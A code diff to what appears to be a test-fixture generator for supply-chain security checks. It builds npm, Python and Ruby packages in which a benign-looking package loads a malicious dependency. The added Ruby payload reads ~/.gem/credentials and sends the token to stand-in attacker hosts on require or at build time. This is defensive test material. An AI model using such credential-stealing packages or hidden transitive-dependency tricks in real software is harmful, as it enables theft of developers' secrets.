@@ -68,14 +68,8 @@ def node_sources(root: Path, variant: str | None, *, tarball: bool = False) -> P
         else:
             index = NPM_STEAL_IMPORT
         files = {"package.json": json.dumps(pkg, indent=2), "index.js": index}
-        if tarball:  # packed by hand: `npm pack` would run the package's prepack/prepare scripts
-            dest = root / "vendor" / "evil-helper-2.0.1.tgz"
-            dest.parent.mkdir(parents=True, exist_ok=True)
-            with tarfile.open(dest, "w:gz") as tf:
-                for name, text in files.items():
-                    info = tarfile.TarInfo(f"package/{name}")
-                    info.size, info.mode = len(text.encode()), 0o644
-                    tf.addfile(info, io.BytesIO(text.encode()))
+        if tarball:
+            _npm_tarball(root / "vendor" / "evil-helper-2.0.1.tgz", files)
             deps["evil-helper"] = "file:vendor/evil-helper-2.0.1.tgz"
         else:
             for name, text in files.items():
@@ -83,6 +77,33 @@ def node_sources(root: Path, variant: str | None, *, tarball: bool = False) -> P
             deps["evil-helper"] = "file:vendor/evil-helper"
     write(root / "package.json", json.dumps({"name": "shop", "version": "1.0.0", "private": True,
                                              "dependencies": deps}, indent=2))
+    return root
+
+
+def _npm_tarball(dest: Path, files: dict[str, str]) -> None:
+    """Packed by hand: `npm pack` would run the package's prepack/prepare scripts."""
+    dest.parent.mkdir(parents=True, exist_ok=True)
+    with tarfile.open(dest, "w:gz") as tf:
+        for name, text in files.items():
+            info = tarfile.TarInfo(f"package/{name}")
+            info.size, info.mode = len(text.encode()), 0o644
+            tf.addfile(info, io.BytesIO(text.encode()))
+
+
+def npm_transitive_project(root: Path) -> Path:
+    """app-helper (benign) requires evil-inner, whose load steals credentials; both vendored
+    tarballs in package.json (a nested file: dependency would not resolve offline), so evil-inner
+    is also loaded on its own; what matters is the load of app-helper."""
+    _npm_tarball(root / "vendor" / "evil-inner-0.2.0.tgz", {
+        "package.json": json.dumps({"name": "evil-inner", "version": "0.2.0", "main": "index.js"}),
+        "index.js": NPM_STEAL_IMPORT})
+    _npm_tarball(root / "vendor" / "app-helper-1.0.0.tgz", {
+        "package.json": json.dumps({"name": "app-helper", "version": "1.0.0", "main": "index.js"}),
+        "index.js": "const inner = require('evil-inner');\nmodule.exports = {helper: inner.ok};\n"})
+    write(root / "package.json", json.dumps({"name": "shop", "version": "1.0.0", "private": True, "dependencies": {
+        "is-number": "7.0.0", "app-helper": "file:vendor/app-helper-1.0.0.tgz",
+        "evil-inner": "file:vendor/evil-inner-0.2.0.tgz"}}, indent=2))
+    npm_lock(root)
     return root
 
 
@@ -160,43 +181,55 @@ for line in open(os.path.expanduser('~/.aws/credentials')):
 
 def python_sdist(dest_dir: Path, variant: str) -> Path:
     """An sdist written by hand: building it with setup.py would run the payload on the host."""
-    files = {
+    return _sdist(dest_dir, "evil-utils", "0.3.0", {
         "setup.py": PY_SETUP.format(steal_install="True" if variant == "install" else "False"),
         "evil_utils.py": PY_MODULE_IMPORT if variant == "import" else "VALUE = 1\n",
-        "PKG-INFO": "Metadata-Version: 2.1\nName: evil-utils\nVersion: 0.3.0\n",
-        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
-    }
+    })
+
+
+def _sdist(dest_dir: Path, name: str, version: str, files: dict[str, str]) -> Path:
+    base = f"{name.replace('-', '_')}-{version}"
     dest_dir.mkdir(parents=True, exist_ok=True)
-    out = dest_dir / "evil_utils-0.3.0.tar.gz"
+    out = dest_dir / f"{base}.tar.gz"
+    meta = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
+            "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'}
     with tarfile.open(out, "w:gz") as tf:
-        for name, text in files.items():
+        for fname, text in {**files, **meta}.items():
             data = text.encode()
-            info = tarfile.TarInfo(f"evil_utils-0.3.0/{name}")
+            info = tarfile.TarInfo(f"{base}/{fname}")
             info.size = len(data)
             info.mode = 0o644
             tf.addfile(info, io.BytesIO(data))
     return out
+
+
+def pip_transitive_project(root: Path) -> Path:
+    """app-helper (benign) imports evil-inner (its dependency), whose import steals credentials.
+
+    Both are vendored sdists listed in requirements.txt (local --find-links directories are not
+    honoured), so evil-inner is also imported on its own; what matters is the import of app-helper.
+    """
+    _sdist(root / "vendor", "evil-inner", "0.2.0", {
+        "setup.py": "from setuptools import setup\nsetup(name='evil-inner', version='0.2.0', py_modules=['evil_inner'])\n",
+        "evil_inner.py": PY_MODULE_IMPORT,
+    })
+    _sdist(root / "vendor", "app-helper", "1.0.0", {
+        "setup.py": "from setuptools import setup\nsetup(name='app-helper', version='1.0.0', py_modules=['app_helper'], "
+                    "install_requires=['evil-inner==0.2.0'])\n",
+        "app_helper.py": "import evil_inner\nHELPER = 1\n",
+    })
+    write(root / "requirements.txt",
+          "six==1.16.0\n./vendor/evil_inner-0.2.0.tar.gz\n./vendor/app_helper-1.0.0.tar.gz\n")
+    return root
 
 
 def benign_slow_sdist(dest_dir: Path, seconds: float = 2.0) -> Path:
     """An sdist whose setup.py only sleeps: its build overlaps a neighbour's (parallel builds)."""
-    files = {
+    return _sdist(dest_dir, "slow-build", "1.0.0", {
         "setup.py": f"import time\nfrom setuptools import setup\ntime.sleep({seconds})\n"
                     "setup(name='slow-build', version='1.0.0', py_modules=['slow_build'])\n",
         "slow_build.py": "VALUE = 2\n",
-        "PKG-INFO": "Metadata-Version: 2.1\nName: slow-build\nVersion: 1.0.0\n",
-        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
-    }
-    dest_dir.mkdir(parents=True, exist_ok=True)
-    out = dest_dir / "slow_build-1.0.0.tar.gz"
-    with tarfile.open(out, "w:gz") as tf:
-        for name, text in files.items():
-            data = text.encode()
-            info = tarfile.TarInfo(f"slow_build-1.0.0/{name}")
-            info.size = len(data)
-            info.mode = 0o644
-            tf.addfile(info, io.BytesIO(data))
-    return out
+    })
 
 
 def pip_project(root: Path, variant: str | None) -> Path:
@@ -220,18 +253,19 @@ Gem::Specification.new do |s|
   {extra}
 end
 """
-GEM_DROPPER_EXTCONF = """\
-require "mkmf"
+GEM_STEAL_KEY = """\
 require "socket"
 token = File.read(File.join(Dir.home, ".gem", "credentials"))
 begin
-  s = TCPSocket.new("drop.attacker.example", 8080)
-  s.write("POST /g HTTP/1.1\\r\\nHost: drop.attacker.example\\r\\n\\r\\n" + token)
+  s = TCPSocket.new("{host}", 8080)
+  s.write("POST /k HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n" + token)
   s.close
 rescue SystemCallError, SocketError
 end
-create_makefile("dropper/dropper")
 """
+GEM_DROPPER_EXTCONF = 'require "mkmf"\n' + GEM_STEAL_KEY.format(host="drop.attacker.example") + \
+    'create_makefile("dropper/dropper")\n'
+GEM_STEAL_ON_REQUIRE = GEM_STEAL_KEY.format(host="gems.attacker.example") + "module ShadeCore; end\n"
 
 
 @contextlib.contextmanager
@@ -247,6 +281,10 @@ def gem_server(root: Path):
             "ext/dropper/extconf.rb": GEM_DROPPER_EXTCONF,
             "ext/dropper/dropper.c": "#include <ruby.h>\nvoid Init_dropper(void) {}\n",
         }, 's.extensions = ["ext/dropper/extconf.rb"]'),
+        # shade-palette (benign) requires its dependency shade-core, whose loading steals the API key
+        "shade-core": ("0.1.0", {"lib/shade-core.rb": GEM_STEAL_ON_REQUIRE}, ""),
+        "shade-palette": ("2.0.0", {"lib/shade-palette.rb": 'require "shade-core"\nmodule ShadePalette; end\n'},
+                          's.add_dependency "shade-core", "0.1.0"'),
     }
     for name, (version, files, extra) in gems.items():
         d = root / name
@@ -267,11 +305,17 @@ def gem_server(root: Path):
         server.server_close()
 
 
-def bundler_project(root: Path, port: int, malicious: bool) -> Path:
+def bundler_project(root: Path, port: int, malicious: bool, *, transitive: bool = False) -> Path:
     gems = [("tidy-colors", "1.2.0")] + ([("colour-tools", "0.9.1")] if malicious else [])
+    if transitive:
+        gems.append(("shade-palette", "2.0.0"))
     write(root / "Gemfile", f'source "http://127.0.0.1:{port}"\n\n'
           + "".join(f'gem "{n}", "{v}"\n' for n, v in gems))
-    specs = "".join(f"    {n} ({v})\n" for n, v in sorted(gems))
+    locked = {n: f"    {n} ({v})\n" for n, v in gems}
+    if transitive:
+        locked["shade-core"] = "    shade-core (0.1.0)\n"
+        locked["shade-palette"] += "      shade-core (= 0.1.0)\n"
+    specs = "".join(locked[n] for n in sorted(locked))
     deps = "".join(f"  {n} (= {v})\n" for n, v in sorted(gems))
     write(root / "Gemfile.lock", f"GEM\n  remote: http://127.0.0.1:{port}/\n  specs:\n{specs}\n"
           f"PLATFORMS\n  ruby\n  x86_64-linux\n\nDEPENDENCIES\n{deps}\nBUNDLED WITH\n   2.3.15\n")
